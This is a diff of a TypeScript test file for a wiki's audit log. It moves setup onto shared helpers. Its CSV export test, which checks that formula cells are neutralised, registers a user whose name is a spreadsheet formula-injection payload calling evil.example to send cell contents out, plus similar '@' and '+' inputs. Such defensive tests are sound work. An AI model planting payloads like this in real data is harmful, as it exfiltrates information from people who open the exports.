@@ -1,13 +1,14 @@
-import fs from "node:fs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { closeDb, getDb, getDbHandle } from "@/db/client";
+import { getDb, getDbHandle } from "@/db/client";
 import { findPageById } from "@/db/queries/pages";
 import { auditEvents, type Page, type Wiki } from "@/db/schema";
 import { restorePage, renamePage } from "@/lib/commands/pages";
 import { createApiToken, revokeApiToken } from "@/lib/commands/tokens";
 import { addMember, changeMemberRole } from "@/lib/commands/wikis";
-import { makeUser, makeWikiWithMembers, useDataDir } from "../helpers/fixtures";
-import { makeDataDir, startServer, type RunningServer } from "../helpers/server";
+import { makeUser, makeWikiWithMembers } from "../helpers/fixtures";
+import { sessionCookieFrom } from "../helpers/session-cookie";
+import { clockTick } from "../helpers/wait";
+import { withServer } from "../helpers/with-server";
 
 type TestUser = Awaited<ReturnType<typeof makeUser>>;
 type AuditEventJson = {
@@ -24,7 +25,7 @@ type AuditEventJson = {
 };
 type AuditPage = { events: AuditEventJson[]; nextBefore: number | null };
 
-let server: RunningServer;
+const server = withServer({ prefix: "opinio-audit-" });
 let owner: TestUser;
 let editor: TestUser;
 let viewer: TestUser;
@@ -67,8 +68,7 @@ async function signIn(user: Pick<TestUser, "email">, password: string): Promise<
     redirect: "manual",
   });
   expect(response.status).toBe(302);
-  const session = response.headers.getSetCookie().find((c) => c.startsWith("authjs.session-token="));
-  return session ? session.split(";")[0] : null;
+  return sessionCookieFrom(response);
 }
 
 /** A strict RFC 4180 reader: throws on anything a spreadsheet could misread. */
@@ -107,19 +107,14 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
-
 beforeAll(async () => {
-  const dataDir = makeDataDir("opinio-audit-");
-  server = await startServer({ dataDir });
-  useDataDir(dataDir);
   owner = await makeUser("Olivia Owner");
   editor = await makeUser("Eddie Editor");
   viewer = await makeUser("Vera Viewer");
   leaver = await makeUser("Leo Leaver");
   otherOwner = await makeUser("Oscar Other");
-  // Wait a moment so the users' first tokens predate their memberships.
-  await sleep(5);
+  // The users' first tokens predate their memberships.
+  await clockTick();
   ({ wiki, page } = await makeWikiWithMembers(owner, [
     { user: editor, role: "editor" },
     { user: viewer, role: "viewer" },
@@ -131,9 +126,6 @@ beforeAll(async () => {
 
 afterAll(async () => {
   if (process.env.DEBUG_SERVER) console.log(server.output());
-  await server?.kill();
-  closeDb();
-  if (server) fs.rmSync(server.dataDir, { recursive: true, force: true });
 });
 
 describe("what is recorded", () => {
@@ -356,7 +348,7 @@ describe("CSV export", () => {
   it("is parseable CSV with the same events as the API, formula cells neutralised", async () => {
     // A member whose name a spreadsheet would run, doing something that lands in the log.
     const prankster = await makeUser('=HYPERLINK("http://evil.example/?"&A1,"Details")');
-    await sleep(5);
+    await clockTick();
     addMember(wiki.id, prankster.email, "editor", owner.id);
     createApiToken(prankster.id, "@SUM(1+1)");
     expect((await api("POST", `/wikis/${wiki.id}/pages`, { token: prankster.token, body: { title: "+1, \"quoted\"\nand a new line" } })).status).toBe(201);
